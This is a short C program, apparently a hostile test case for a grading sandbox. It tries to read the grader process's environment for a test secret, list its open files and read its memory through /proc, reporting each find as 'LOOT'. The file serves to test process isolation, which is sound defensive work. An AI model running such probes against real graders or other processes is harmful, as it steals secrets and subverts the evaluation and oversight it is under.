/* Snoops on the grader through /proc: its environment, its open files, its memory. */
#include "hostile.h"

#include <dirent.h>

int main(void) {
  int grader = find_grader();
  if (grader <= 0) grader = getppid();
  char buffer[65536];
  ssize_t n = read_proc(grader, "environ", buffer, sizeof buffer);
  for (ssize_t at = 0; at < n; at += strlen(buffer + at) + 1)
    if (strncmp(buffer + at, "UIRGRADE_TEST_SECRET=", 21) == 0) fprintf(stderr, "LOOT: environ %s\n", buffer + at);
  char fd_dir[64];
  snprintf(fd_dir, sizeof fd_dir, "/proc/%d/fd", grader);
  DIR* fds = opendir(fd_dir);
  if (fds) {
    struct dirent* entry;
    while ((entry = readdir(fds))) {
      char link[600], target[4096];
      snprintf(link, sizeof link, "%s/%s", fd_dir, entry->d_name);
      ssize_t length = readlink(link, target, sizeof target - 1);
      if (length > 0) {
        target[length] = 0;
        fprintf(stderr, "LOOT: fd %s -> %s\n", entry->d_name, target);
        break;
      }
    }
    closedir(fds);
  }
  /* The first readable mapping of the grader's memory. */
  char maps[65536];
  if (read_proc(grader, "maps", maps, sizeof maps) > 0) {
    unsigned long start = 0;
    char mem_path[64];
    snprintf(mem_path, sizeof mem_path, "/proc/%d/mem", grader);
    int mem = open(mem_path, O_RDONLY);
    if (mem >= 0 && sscanf(maps, "%lx-", &start) == 1) {
      char bytes[16];
      if (pread(mem, bytes, sizeof bytes, (off_t)start) == sizeof bytes) fprintf(stderr, "LOOT: mem %lx\n", start);
    }
    if (mem >= 0) close(mem);
  }
  return 7;
}
